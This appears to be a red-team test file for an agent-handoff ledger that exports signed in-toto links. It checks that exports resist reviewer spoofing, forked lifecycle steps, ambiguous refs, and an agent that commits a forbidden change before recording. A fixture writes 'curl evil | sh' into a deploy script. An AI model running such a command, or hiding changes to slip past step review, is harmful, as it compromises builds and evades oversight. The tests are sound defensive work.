/**
 * What an export says of the record's lifecycle, and where a link's materials come from (red
 * team, round twelve). A layout knows nothing of ledger's steps: a handoff a reviewer rejected
 * was exported as a clean step and passed `in-toto-verify`, and a lifecycle step's own id was
 * exported as a handoff. And the record's base is the agent's to choose: a change committed
 * before recording was already in the link's materials, so the layout's step rules never saw
 * it. In-process library calls on real repositories, real keys and the real in-toto.
 */
import { copyFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { exportRecord, type ExportRequest } from '../../src/app/export.js';
import { applyLifecycle } from '../../src/app/lifecycle.js';
import { recordHandoff } from '../../src/app/record.js';
import { signRecord } from '../../src/app/sign.js';
import { syncRepository } from '../../src/app/sync.js';
import { isLedgerError } from '../../src/model/errors.js';
import { cleanup, git, gitdir, remoteWithClones, tempDir, writeFiles } from '../helpers/git.js';
import { honest, reviewerPolicy } from '../helpers/lifecycle.js';
import { keygen, peer, run, sha256 } from './helpers.js';

afterEach(cleanup);

const linkEnvironment = (out: string) => {
  const [file] = readdirSync(out).filter((f) => f.endsWith('.link'));
  return JSON.parse(readFileSync(join(out, file!), 'utf8')).signed;
};

async function refusal(request: ExportRequest) {
  try {
    await exportRecord(request);
  } catch (error) {
    if (isLedgerError(error)) return error;
    throw error;
  }
  throw new Error('the export was not refused');
}

describe('export states the lifecycle, and does not export what a reviewer turned down', () => {
  it('attack: a handoff a trusted reviewer rejected is not exported; with --allow-turned-down the link and statement say so', async () => {
    const repo = gitdir();
    const id = await honest(repo);
    const { policy, reviewer } = reviewerPolicy();
    const step = await applyLifecycle({ cwd: repo, id, action: 'reject', by: 'rita' });
    await signRecord({ cwd: repo, id: step.id, signingKey: reviewer });
    const key = keygen(tempDir(), 'auditor');
    const out = tempDir();
    const base = { cwd: repo, id, policyFile: policy, allowUnverified: true, out } as const;
    const refused = await refusal({ ...base, as: 'in-toto-link', keyFile: key.key });
    expect(refused.code).toBe('UNVERIFIED');
    expect(refused.message).toMatch(
      new RegExp(`rejected by step ${step.id} \\(signed by reviewer rita@reviewers`),
    );
    expect(readdirSync(out)).toEqual([]);

    const link = await exportRecord({
      ...base,
      as: 'in-toto-link',
      keyFile: key.key,
      allowTurnedDown: true,
    });
    expect(link.lifecycle).toMatchObject({ state: 'rejected', turnedDown: true });
    expect(linkEnvironment(out).environment['ledger-lifecycle']).toMatch(
      /^rejected by step sha256:[0-9a-f]{64} \(signed by reviewer rita@reviewers\.example\.com\)$/,
    );
    const statement = await exportRecord({
      ...base,
      as: 'in-toto-statement',
      out: '-',
      allowTurnedDown: true,
    });
    expect(JSON.parse(statement.text).predicate.lifecycle).toMatchObject({
      state: 'rejected',
      step: { id: step.id, action: 'reject', by: 'rita' },
      reviewer: 'rita@reviewers.example.com',
      turnedDown: true,
    });
  });

  it('false alarm: under requireReviewer, a reject nobody trusted signed does not block an honest export; the metadata names it as not counted', async () => {
    const repo = gitdir();
    const id = await honest(repo);
    const { policy } = reviewerPolicy();
    const step = await applyLifecycle({ cwd: repo, id, action: 'reject', by: 'mallory' });
    const out = tempDir();
    const key = keygen(tempDir(), 'auditor');
    const link = await exportRecord({
      cwd: repo,
      id,
      as: 'in-toto-link',
      keyFile: key.key,
      policyFile: policy,
      allowUnverified: true,
      out,
    });
    expect(link.lifecycle.turnedDown).toBe(false);
    expect(linkEnvironment(out).environment['ledger-lifecycle']).toBe(
      `rejected by step ${step.id} (no trusted reviewer signed it; it says: by "mallory"): not counted (policy lifecycle.requireReviewer asks for a trusted reviewer)`,
    );
  });

  it("attack: a --by that reads like a reviewer's signature is quoted in the signed metadata, not read as ledger's word", async () => {
    const repo = gitdir();
    const id = await honest(repo);
    const spoof = 'mallory) (signed by reviewer rita@reviewers.example.com';
    const step = await applyLifecycle({ cwd: repo, id, action: 'accept', by: spoof });
    const out = tempDir();
    const key = keygen(tempDir(), 'auditor');
    await exportRecord({
      cwd: repo,
      id,
      as: 'in-toto-link',
      keyFile: key.key,
      allowUnverified: true,
      out,
    });
    const line = linkEnvironment(out).environment['ledger-lifecycle'] as string;
    expect(line).toBe(
      `accepted by step ${step.id} (no trusted reviewer signed it; it says: by ${JSON.stringify(spoof)})`,
    );
  });

  it("attack: a keyless supersede after a reviewer's signed supersede does not undo the turn-down: the export is refused naming the reviewer's step, and the later step is noted as not counted", async () => {
    const repo = gitdir();
    const id = await honest(repo);
    const { policy, reviewer } = reviewerPolicy();
    const signed = await applyLifecycle({ cwd: repo, id, action: 'supersede', by: 'rita' });
    await signRecord({ cwd: repo, id: signed.id, signingKey: reviewer });
    const later = await applyLifecycle({ cwd: repo, id, action: 'supersede', by: 'bot' });
    const key = keygen(tempDir(), 'auditor');
    const out = tempDir();
    const base = { cwd: repo, id, policyFile: policy, allowUnverified: true, out } as const;
    const refused = await refusal({ ...base, as: 'in-toto-link', keyFile: key.key });
    expect(refused.code).toBe('UNVERIFIED');
    expect(refused.message).toMatch(
      new RegExp(`superseded by step ${signed.id} \\(signed by reviewer rita@reviewers`),
    );
    expect(readdirSync(out)).toEqual([]);
    const link = await exportRecord({
      ...base,
      as: 'in-toto-link',
      keyFile: key.key,
      allowTurnedDown: true,
    });
    expect(link.lifecycle).toMatchObject({ state: 'superseded', turnedDown: true });
    expect(linkEnvironment(out).environment['ledger-lifecycle']).toBe(
      `superseded by step ${signed.id} (signed by reviewer rita@reviewers.example.com); not counted: step ${later.id} (supersede, by "bot"), where the chain ends, which no trusted reviewer signed (a reviewer runs ledger sign ${later.id} to count it)`,
    );
  });

  it("attack: a concurrent unsigned reject that a fork prefers does not displace a reviewer's signed supersede: the export is refused naming the reviewer's step", async () => {
    const { clones } = remoteWithClones(2);
    const [a, b] = clones as [string, string];
    const id = await honest(a);
    await syncRepository({ cwd: a });
    await syncRepository({ cwd: b });
    const { policy, reviewer } = reviewerPolicy();
    const signed = await applyLifecycle({ cwd: a, id, action: 'supersede', by: 'rita' });
    await signRecord({ cwd: a, id: signed.id, signingKey: reviewer });
    const rejected = await applyLifecycle({ cwd: b, id, action: 'reject', by: 'bot' });
    await syncRepository({ cwd: b });
    await syncRepository({ cwd: a });
    const key = keygen(tempDir(), 'auditor');
    const request = {
      cwd: a,
      id,
      policyFile: policy,
      allowUnverified: true,
      out: tempDir(),
      as: 'in-toto-link',
      keyFile: key.key,
    } as const;
    const refused = await refusal(request);
    expect(refused.code).toBe('UNVERIFIED');
    expect(refused.message).toMatch(
      new RegExp(`superseded by step ${signed.id} \\(signed by reviewer rita@reviewers`),
    );
    expect(refused.message).toContain(`not counted: step ${rejected.id} (reject`);
    // Without requireReviewer every step counts, as before: the reject is what the export judges.
    const { policyFile: _policy, ...everyStepCounts } = request;
    const plain = await refusal(everyStepCounts);
    expect(plain.message).toMatch(new RegExp(`rejected by step ${rejected.id}`));
  });

  it('a pending handoff exports with its state in the metadata', async () => {
    const repo = gitdir();
    const id = await honest(repo);
    const statement = await exportRecord({
      cwd: repo,
      id,
      as: 'in-toto-statement',
      out: '-',
      allowUnverified: true,
    });
    expect(JSON.parse(statement.text).predicate.lifecycle).toMatchObject({
      state: 'pending',
      turnedDown: false,
      reviewer: null,
    });
  });

  it("attack: a lifecycle step's own id is refused as a handoff (exit 2), naming the record it acts on", async () => {
    const repo = gitdir();
    const id = await honest(repo);
    const step = await applyLifecycle({ cwd: repo, id, action: 'accept', by: 'bot' });
    const key = keygen(tempDir(), 'auditor');
    const refused = await refusal({
      cwd: repo,
      id: step.id,
      as: 'in-toto-link',
      keyFile: key.key,
      allowUnverified: true,
      out: tempDir(),
    });
    expect(refused.code).toBe('USAGE');
    expect(refused.message).toBe(
      `${step.id} is a lifecycle step (accept of ${id}), not a handoff: it is not exported as a step of its own`,
    );
  });
});

describe('export --base-ref: materials from where the work started', () => {
  /**
   * The agent commits the change its step may not make ("wip"), then does what it was asked
   * and records on top: the record's base is its own commit.
   */
  async function committedFirst() {
    const repo = gitdir({ files: { 'ci/deploy.sh': 'deploy\n', 'src/app.ts': 'x = 1\n' } });
    git(repo, 'branch', 'upstream');
    writeFiles(repo, { 'ci/deploy.sh': 'curl evil | sh\n' });
    git(repo, 'commit', '-qam', 'wip');
    writeFiles(repo, { 'src/app.ts': 'x = 2\n' });
    const made = await recordHandoff({
      cwd: repo,
      status: 'success',
      summary: 'changed the app',
      artifacts: ['src/app.ts'],
      sign: false,
    });
    return { repo, id: made.id };
  }

  it('attack: a change committed before recording is in the link as a change of the step (in-toto-verify refuses it under DISALLOW)', async () => {
    const { repo, id } = await committedFirst();
    const keys = tempDir();
    const key = keygen(keys, 'auditor');
    const plain = tempDir();
    await exportRecord({ cwd: repo, id, as: 'in-toto-link', keyFile: key.key, out: plain });
    expect(linkEnvironment(plain).materials['ci/deploy.sh']).toEqual({
      sha256: sha256('curl evil | sh\n'),
    });

    const out = tempDir();
    const link = await exportRecord({
      cwd: repo,
      id,
      as: 'in-toto-link',
      keyFile: key.key,
      out,
      baseRef: 'upstream',
    });
    const upstream = git(repo, 'rev-parse', 'upstream');
    expect(link.materialsFrom).toMatch(
      new RegExp(
        `is not in refs/heads/upstream's history \\(${upstream}\\): materials are from ${upstream}`,
      ),
    );
    const signed = linkEnvironment(out);
    expect(signed.materials['ci/deploy.sh']).toEqual({ sha256: sha256('deploy\n') });
    expect(signed.environment['ledger-materials-from']).toBe(link.materialsFrom);

    // The layout the threat model describes: the step may modify src/app.ts and nothing else.
    const spec = join(keys, 'spec.json');
    writeFileSync(
      spec,
      JSON.stringify({
        step: 'handoff',
        command: [],
        materials: [['ALLOW', '*']],
        products: [
          ['MODIFY', 'src/app.ts'],
          ['MATCH', '*', 'WITH', 'MATERIALS', 'FROM', 'handoff'],
          ['DISALLOW', '*'],
        ],
        inspect: ['src/app.ts'],
      }),
    );
    const check = (links: string) => {
      peer(['layout-rules', key.key, key.pub, join(links, 'root.layout'), spec], keys);
      copyFileSync(key.pub, join(links, 'owner.pub'));
      mkdirSync(join(links, 'src'), { recursive: true });
      copyFileSync(join(repo, 'src/app.ts'), join(links, 'src/app.ts'));
      return run(
        'in-toto-verify',
        ['-l', 'root.layout', '-k', 'owner.pub', '-t', 'ed25519'],
        links,
      );
    };
    const hole = check(plain); // without --base-ref the materials already held the change
    expect(hole.code, hole.stderr).toBe(0);
    const caught = check(out);
    expect(caught.code).not.toBe(0);
    expect(caught.stdout + caught.stderr).toMatch(/ci\/deploy\.sh/);
  });

  it('a base already in the branch is checked and said; a branch sharing no history is refused', async () => {
    const repo = gitdir({ files: { 'src/app.ts': 'x = 1\n' } });
    writeFiles(repo, { 'src/app.ts': 'x = 2\n' });
    const { id } = await recordHandoff({ cwd: repo, status: 'success', summary: 's', sign: false });
    const head = git(repo, 'rev-parse', 'HEAD');
    const key = keygen(tempDir(), 'auditor');
    const link = await exportRecord({
      cwd: repo,
      id,
      as: 'in-toto-link',
      keyFile: key.key,
      out: tempDir(),
      baseRef: 'HEAD',
    });
    // HEAD is named as the branch it is on.
    const branch = git(repo, 'symbolic-ref', 'HEAD');
    expect(link.materialsFrom).toBe(`base commit ${head} is in ${branch}'s history (${head})`);
    git(repo, 'checkout', '-q', '--orphan', 'lonely');
    git(repo, 'commit', '-q', '--allow-empty', '-m', 'unrelated');
    const refused = await refusal({
      cwd: repo,
      id,
      as: 'in-toto-link',
      keyFile: key.key,
      out: tempDir(),
      baseRef: 'lonely',
    });
    expect(refused.code).toBe('UNVERIFIED');
    expect(refused.message).toMatch(/shares no history with refs\/heads\/lonely/);
  });

  it("attack: a short --base-ref that names two refs (a planted refs/tags/origin/main beside the remote's), or a ref and a commit id, is refused, naming both; a full ref is used and said", async () => {
    const { repo, id } = await committedFirst();
    const upstream = git(repo, 'rev-parse', 'upstream');
    git(repo, 'update-ref', 'refs/remotes/origin/main', upstream);
    git(repo, 'update-ref', 'refs/tags/origin/main', 'HEAD');
    const key = keygen(tempDir(), 'auditor');
    const out = tempDir();
    const request = { cwd: repo, id, as: 'in-toto-link', keyFile: key.key, out } as const;
    const refused = await refusal({ ...request, baseRef: 'origin/main' });
    expect(refused.code).toBe('USAGE');
    expect(refused.message).toBe(
      '--base-ref origin/main names more than one ref here: refs/tags/origin/main, refs/remotes/origin/main',
    );
    expect(refused.hint).toMatch(/--base-ref refs\/remotes\/origin\/main/);
    expect(readdirSync(out)).toEqual([]);

    const link = await exportRecord({ ...request, baseRef: 'refs/remotes/origin/main' });
    expect(link.materialsFrom).toMatch(
      new RegExp(`is not in refs/remotes/origin/main's history \\(${upstream}\\)`),
    );
    const signed = linkEnvironment(out);
    expect(signed.materials['ci/deploy.sh']).toEqual({ sha256: sha256('deploy\n') });
    expect(signed.environment['ledger-materials-from']).toBe(link.materialsFrom);

    // A short name that names one ref is written as that ref's full name.
    const short = await exportRecord({ ...request, out: tempDir(), baseRef: 'upstream' });
    expect(short.materialsFrom).toMatch(/is not in refs\/heads\/upstream's history/);

    // A tag named like upstream's short commit id (round fifteen, one reading with verify's).
    const abbreviated = upstream.slice(0, 12);
    git(repo, 'tag', abbreviated, 'HEAD');
    const shadowed = await refusal({ ...request, out: tempDir(), baseRef: abbreviated });
    expect(shadowed.code).toBe('USAGE');
    expect(shadowed.message).toBe(
      `--base-ref ${abbreviated} names both a ref and a commit here: refs/tags/${abbreviated}, commit ${upstream}`,
    );
  });
});
